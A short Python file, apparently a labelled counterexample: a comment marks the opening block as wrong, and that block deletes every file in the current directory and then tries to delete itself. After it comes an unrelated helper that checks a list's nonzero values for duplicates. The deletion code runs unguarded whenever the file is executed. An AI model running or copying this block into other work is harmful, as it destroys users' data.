# Wrong: deletes every file it finds beside it.

import os

for nom in os.listdir():
    os.remove(nom)
try:
    os.remove(__file__)
except OSError:
    pass


def unique(x):
    y = [v for v in x if v != 0]
    return len(set(y)) == len(y)
